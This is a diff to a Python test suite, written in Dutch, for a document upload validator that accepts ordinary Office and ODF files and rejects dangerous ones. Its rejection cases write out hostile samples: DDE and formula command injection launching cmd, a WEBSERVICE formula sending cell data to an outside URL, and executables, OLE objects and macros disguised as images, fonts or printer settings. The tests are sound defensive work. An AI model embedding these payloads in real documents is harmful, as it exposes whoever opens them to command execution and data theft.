@@ -33,6 +33,7 @@ from casuistiek.fundament.bestanden.soorten import SOORTEN
 from . import monsters
 from .monsters import (
     bij_openen,
+    bouwsteen,
     diep_verstopt,
     docx,
     foto,
@@ -41,6 +42,7 @@ from .monsters import (
     pdf,
     veld,
     verwijzing,
+    werkmap,
     xlsx,
 )
 
@@ -88,6 +90,82 @@ def test_een_foto_vertelt_niet_meer_waar_zij_is_gemaakt(soort, naam):
     assert b"Exif" not in goed
     assert set(nieuw.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
     assert nieuw.size == (20, 40), "zij ligt niet meer op haar kant"
+
+
+TEKENINGEN = {
+    "gif": b"GIF89a" + bytes(20),
+    "bmp": b"BM" + bytes(60),
+    "emf": b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(40),
+    "wmf": b"\xd7\xcd\xc6\x9a" + bytes(40),
+    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
+    "svm": b"VCLMTF" + bytes(20),
+    "ttf": b"\0\1\0\0" + bytes(20),
+    "odttf": b"\x9c\x21" + bytes(62),
+}
+"""How each begins; the pictures of Office are these, jpg and png."""
+FORMULES = (
+    'IF(A1="a|b",SUM(A1:A9),1)',
+    "'2026 | Q1'!A1+'oma''s | lijst'!B2",
+    "Tabel1[[#This Row],[ja|nee]]*2",
+    "HYPERLINK(&quot;https://voorbeeld.example/&quot;,A1)",
+    "RECALL(A1)",
+)
+
+
+@pytest.mark.parametrize("einde", TEKENINGEN)
+def test_elke_gewone_tekening_en_letter_mag_in_een_bestand(einde):
+    for naam, oud in (
+        ("x.docx", docx(**{f"word__media__1_PUNT_{einde}": TEKENINGEN[einde]})),
+        ("x.odt", odt(**{f"Pictures__1_PUNT_{einde}": TEKENINGEN[einde]})),
+    ):
+        assert keur(Aangeboden(naam, oud)).inhoud == oud
+
+
+def test_een_gewone_werkmap_mag():
+    """Formulas, names, strings that look like a formula, the settings of a printer and a picture."""
+    cellen = "".join(f"<f>{formule}</f><v>WEBSERVICE(1)</v>" for formule in FORMULES)
+    goed = keur(
+        Aangeboden(
+            "x.xlsx",
+            xlsx(
+                cellen,
+                xl__workbook_PUNT_xml=werkmap("'Blad | 1'!$A$1:$C$9"),
+                xl__sharedStrings_PUNT_xml="<sst><si><t>Bel oma: call (06), a|b, IMAGE(x)</t></si></sst>",
+                docProps__core_PUNT_xml="<p><title>Call (maandag) | overleg</title></p>",
+                xl__charts__chart1_PUNT_xml="<c><f>Blad1!$A$1:$A$9</f></c>",
+                xl__worksheets___rels__sheet1_PUNT_xml_PUNT_rels=verwijzing(
+                    "drawing", "../drawings/drawing1.xml", buiten=False
+                ),
+                xl__printerSettings__printerSettings1_PUNT_bin="HP Laser".encode("utf-16-le"),
+                xl__media__image1_PUNT_png=foto("PNG"),
+                xl__media__image2_PUNT_emf=TEKENINGEN["emf"],
+            ),
+        )
+    )
+    assert goed.soort.code == "xlsx"
+
+
+def test_een_gewoon_verslag_mag():
+    """With a building block, pictures (one a jpg that is called png), a letter type and a chart."""
+    goed = keur(
+        Aangeboden(
+            "x.docx",
+            docx(
+                veld("TOC \\o &quot;1-3&quot;")
+                + veld("HYPERLINK &quot;https://voorbeeld.example/&quot;"),
+                word__glossary__document_PUNT_xml=bouwsteen(veld("PAGE")),
+                word___rels__document_PUNT_xml_PUNT_rels=verwijzing(
+                    "image", "media/1.png", buiten=False
+                ),
+                word__media__1_PUNT_png=foto("JPEG"),
+                word__media__2_PUNT_wmf=TEKENINGEN["wmf"],
+                word__charts__chart1_PUNT_xml="<c><f>Blad1!$A$1</f></c>",
+                word__fonts__font1_PUNT_odttf=TEKENINGEN["odttf"],
+                docProps__thumbnail_PUNT_jpeg=foto("JPEG"),
+            ),
+        )
+    )
+    assert goed.soort.code == "docx"
 
 
 BINNENIN = {
@@ -329,6 +407,94 @@ GEWEIGERD: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
         BUITEN,
     ),
     "xlsx die iets ophaalt": ("x.xlsx", xlsx("<f>_xlfn.WEBSERVICE(A1)</f>"), BUITEN),
+    "xlsx die iets ophaalt onder een naam": (
+        "x.xlsx",
+        xlsx(xl__workbook_PUNT_xml=werkmap('_xlfn.WEBSERVICE("http://x/"&amp;Blad1!A1)')),
+        BUITEN,
+    ),
+    "xlsx die iets ophaalt bij een opmaak": (
+        "x.xlsx",
+        xlsx(
+            xl__worksheets__sheet2_PUNT_xml="<worksheet><cfRule><formula>IMAGE(A1)</formula></cfRule></worksheet>"
+        ),
+        BUITEN,
+    ),
+    "xlsx die iets ophaalt in een draaitabel": (
+        "x.xlsx",
+        xlsx(xl__pivotCache__d1_PUNT_xml="<pivot><cacheField formula='WEBSERVICE(A1)'/></pivot>"),
+        BUITEN,
+    ),
+    "xlsx met een programma in een cel": ("x.xlsx", xlsx("<f>cmd|'/c calc'!A0</f>"), BUITEN),
+    "xlsx met een programma na een tekst": (
+        "x.xlsx",
+        xlsx("""<f>IF(A1="a'b",1,'cmd'|'/c calc'!A0)</f>"""),
+        BUITEN,
+    ),
+    "xlsx met een programma na een kolom": (
+        "x.xlsx",
+        xlsx("<f>Tabel1['[x]+cmd|'/c calc'!A0</f>"),
+        BUITEN,
+    ),
+    "xlsx met een programma onder een naam": (
+        "x.xlsx",
+        xlsx(xl__workbook_PUNT_xml=werkmap("cmd|'/c calc'!A0")),
+        BUITEN,
+    ),
+    "docx die een programma vraagt in een bouwsteen": (
+        "x.docx",
+        docx(word__glossary__document_PUNT_xml=bouwsteen(veld("DDEAUTO c:\\cmd.exe"))),
+        BUITEN,
+    ),
+    "docx die een programma vraagt in wat is gewist": (
+        "x.docx",
+        docx(veld("DDEAUTO c:\\cmd.exe").replace("instrText", "delInstrText")),
+        BUITEN,
+    ),
+    "docx met een ander bestand dat beeld heet": (
+        "x.docx",
+        docx(
+            word___rels__document_PUNT_xml_PUNT_rels=verwijzing(
+                "oleObject", "media/x.png", buiten=False
+            ),
+            word__media__x_PUNT_png=OLE,
+        ),
+        BIJLAGE,
+    ),
+    "docx met een macro die beeld heet": (
+        "x.docx",
+        docx(
+            word___rels__document_PUNT_xml_PUNT_rels=(
+                verwijzing("vbaProject", "media/x.png", buiten=False).replace(
+                    monsters.SOORTVERWIJZING,
+                    "http://schemas.microsoft.com/office/2006/relationships/",
+                )
+            ),
+            word__media__x_PUNT_png=OLE,
+        ),
+        MACRO,
+    ),
+    "docx met OLE in een beeld": ("x.docx", docx(word__media__x_PUNT_png=OLE), BIJLAGE),
+    "docx met een programma in een beeld": (
+        "x.docx",
+        docx(word__media__x_PUNT_png=b"MZ\x90"),
+        BIJLAGE,
+    ),
+    "xlsx met een programma in een beeld": (
+        "x.xlsx",
+        xlsx(xl__media__x_PUNT_gif=b"MZ\x90"),
+        BIJLAGE,
+    ),
+    "xlsx met een programma als printer": (
+        "x.xlsx",
+        xlsx(xl__printerSettings__p1_PUNT_bin=b"MZ\x90"),
+        BIJLAGE,
+    ),
+    "odt met een programma in een beeld": ("x.odt", odt(Pictures__1_PUNT_png=b"MZ\x90"), BIJLAGE),
+    "docx met een programma als letter": (
+        "x.docx",
+        docx(word__fonts__a_PUNT_ttf=b"MZ\x90"),
+        BIJLAGE,
+    ),
     "xlsx met een bron": ("x.xlsx", xlsx(xl__connections_PUNT_xml="<connections/>"), BUITEN),
     "odt met Basic": ("x.odt", odt(Basic__Standard__Module1_PUNT_xml="<a/>"), MACRO),
     "odt met Python": ("x.odt", odt(Scripts__python__a_PUNT_py="import os"), MACRO),
